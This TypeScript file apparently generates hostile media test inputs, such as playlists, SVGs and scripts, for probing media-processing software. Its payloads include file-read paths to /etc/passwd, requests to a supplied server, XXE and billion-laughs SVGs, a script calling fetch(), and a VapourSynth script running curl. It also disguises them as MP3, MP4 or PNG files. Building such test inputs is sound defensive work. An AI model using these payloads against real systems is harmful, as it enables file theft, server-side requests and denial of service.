/** What players follow to somewhere else: playlists, scripts, drawings and lists, in their own name and under that of a film. */
import { box } from '../bombs/boxes.ts';
import { musicTag } from './damage.ts';
import type { Hostile } from './index.ts';
import type { Seed } from './seeds.ts';

/** What nothing may ever touch. */
export interface Lure {
  /** Path of a film. */
  readonly film: string;
  /** Path of a text. */
  readonly text: string;
  /** Address of a server, without a slash at its end. */
  readonly url: string;
}

const hls = (...lines: string[]) =>
  `#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:1\n${lines.join('\n')}\n#EXT-X-ENDLIST\n`;
const piece = (address: string) => hls('#EXTINF:1,', address);
const concat = (...lines: string[]) => `ffconcat version 1.0\n${lines.join('\n')}\n`;
const mpd = (address: string) =>
  `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${address}</BaseURL></Representation></AdaptationSet></Period></MPD>`;
const svg = (inside: string, before = '') =>
  `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${inside}</svg>`;
const laughs = Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join(
  '',
);

/** By the extension of their own. */
const texts = ({
  film,
  text,
  url,
}: Lure): readonly (readonly [what: string, extension: string, content: string])[] => [
  ['file', 'm3u8', piece(film)],
  ['file-address', 'm3u8', piece(`file://${film}`)],
  ['address', 'm3u8', piece(`${url}/a.ts`)],
  ['beside', 'm3u8', piece('../../../../../../etc/passwd')],
  ['passwords', 'm3u8', piece('file:///etc/passwd')],
  ['variants', 'm3u8', `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${url}/b.m3u8\n`],
  [
    'subtitle',
    'm3u8',
    `#EXTM3U\n#EXT-X-MEDIA:TYPE=SUBTITLES,GROUP-ID="a",NAME="a",URI="${url}/c.vtt"\n${film}\n`,
  ],
  ['key', 'm3u8', hls(`#EXT-X-KEY:METHOD=AES-128,URI="${url}/key"`, '#EXTINF:1,', film)],
  ['map', 'm3u8', hls(`#EXT-X-MAP:URI="${url}/init.mp4"`, '#EXTINF:1,', film)],
  ['range', 'm3u8', hls('#EXT-X-BYTERANGE:100@0', '#EXTINF:1,', `file://${text}`)],
  ['part-of-file', 'm3u8', piece(`subfile,,start,0,end,90,,:${text}`)],
  ['joined', 'm3u8', piece(`concat:${text}|${film}`)],
  ['joined-address', 'm3u8', piece(`concat:${url}/head|file://${text}`)],
  ['deciphered', 'm3u8', piece(`crypto:${film}`)],
  ['data', 'm3u8', piece('data:video/mp4;base64,AAAAHGZ0eXBpc29t')],
  ['many-protocols', 'm3u8', piece(`cache:async:${url}/d`)],
  ['itself', 'm3u8', `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${'a.m3u8'}\n`.repeat(400)],
  [
    'ports',
    'm3u8',
    ['tcp', 'udp', 'rtp', 'ftp', 'gopher', 'rtmp', 'unix'].map((way) => `${way}://127.0.0.1:9/`).join('\n'),
  ],
  ['file', 'ffconcat', concat(`file '${film}'`)],
  ['address', 'ffconcat', concat(`file '${url}/e.mp4'`)],
  ['text', 'ffconcat', concat(`file '${text}'`, 'duration 1e308', 'inpoint -1')],
  ['options', 'ffconcat', concat(`file '${film}'`, 'option safe 0', 'stream', 'exact_stream_id 0x1')],
  ['session', 'sdp', `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\n`],
  ['address', 'mpd', mpd(`${url}/f.mp4`)],
  ['file', 'mpd', mpd(film)],
  ['list', 'pls', `[playlist]\nFile1=${url}/g.mp3\nFile2=${film}\nNumberOfEntries=2\n`],
  ['list', 'asx', `<asx version="3.0"><entry><ref href="${url}/h.wmv"/></entry></asx>`],
  ['list', 'ram', `${url}/i.rm\n${film}\n`],
  [
    'list',
    'xspf',
    `<playlist version="1"><trackList><track><location>${url}/j</location></track></trackList></playlist>`,
  ],
  ['sheet', 'cue', `FILE "${film}" MP3\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`],
  ['show', 'smil', `<smil><body><video src="${url}/k.mp4"/></body></smil>`],
  [
    'smooth',
    'ism',
    `<SmoothStreamingMedia Duration="1"><StreamIndex Url="${url}/l"/></SmoothStreamingMedia>`,
  ],
  ['picture', 'svg', svg(`<image xlink:href="${url}/m.png" width="9" height="9"/>`)],
  ['picture-of-file', 'svg', svg(`<image xlink:href="file://${film}" width="9" height="9"/>`)],
  ['entity', 'svg', svg('<text>&e;</text>', `<!DOCTYPE svg [<!ENTITY e SYSTEM "file://${text}">]>`)],
  ['remote-entity', 'svg', svg('<text>x</text>', `<!DOCTYPE svg SYSTEM "${url}/n.dtd">`)],
  ['laughs', 'svg', svg('<text>&a12;</text>', `<!DOCTYPE svg [<!ENTITY a0 "ha">${laughs}]>`)],
  ['script', 'svg', svg(`<script>fetch('${url}/o')</script>`)],
  ['page', 'html', `<!doctype html><video src="${url}/p.mp4" autoplay></video>`],
  [
    'redirect',
    'qtl',
    `<?xml version="1.0"?><?quicktime type="application/x-quicktime-media-link"?><embed src="${url}/q.mov"/>`,
  ],
  ['stream', 'mov', `RTSPtextrtsp://127.0.0.1:9/r`],
  ['tags', 'ffmeta', `;FFMETADATA1\ntitle=${url}\n[CHAPTER]\nTIMEBASE=1/0\nSTART=-1\nEND=1e99\n`],
  ['script', 'avs', `FFmpegSource2("${film}")\n`],
  ['script', 'vpy', `import os\nos.system("curl ${url}/s")\n`],
  [
    'index',
    'idx',
    '# VobSub index file, v7 (do not modify this line!)\ntimestamp: 00:00:00:000, filepos: 000000000\n',
  ],
  [
    'style',
    'ass',
    `[Script Info]\n[Fonts]\nfontname: ${film}\n[Events]\nDialogue: 0,0:00:00.00,9:59:59.99,,{\\p1}m 0 0 l 9 9\n`,
  ],
];

/**
 * Each in its own name; in that of a film; behind the tag of a song, the first box of a film, and a whole picture: programs
 * that look at the first bytes take those for media.
 */
export function players(honest: readonly Seed[], lure: Lure): Hostile[] {
  const picture = honest.find(({ extension }) => extension === 'png')?.bytes ?? Buffer.alloc(0);
  const first = box('ftyp', Buffer.from('isom\0\0\0\0isom', 'latin1'));
  return texts(lure).flatMap(([what, extension, content]) => {
    const bytes = Buffer.from(content);
    const name = `${extension}-${what}`;
    return [
      { name: `${name}.${extension}`, bytes },
      { name: `${name}-called-a-film.mp4`, bytes },
      { name: `${name}-behind-a-tag.mp3`, bytes: Buffer.concat([musicTag(30), bytes]) },
      { name: `${name}-behind-a-box.mp4`, bytes: Buffer.concat([first, bytes]) },
      { name: `${name}-behind-a-picture.png`, bytes: Buffer.concat([picture, bytes]) },
    ];
  });
}
